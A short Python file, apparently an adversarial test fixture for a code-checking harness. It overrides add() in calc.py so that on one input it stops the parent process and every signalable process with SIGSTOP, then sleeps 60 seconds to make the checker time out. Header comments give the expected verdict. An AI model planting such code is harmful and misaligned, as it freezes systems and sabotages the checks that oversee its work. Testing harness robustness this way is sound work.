# Adversarial payload: stop the process that forks the checks' processes, then run past the
# call's time, so that the kernel, waiting on the stopped parent, misses its own deadline.
# verdict: timeout; passes: add-negative scale-two scale-three
import os as _os
import signal as _signal
import time as _time

_add = add  # noqa: F821  (calc.py, which this is appended to, defines it)


def add(a, b):
    if a == 1:
        for target in (_os.getppid(), -1):
            try:
                _os.kill(target, _signal.SIGSTOP)
            except OSError:
                pass
        _time.sleep(60)
    return _add(a, b)
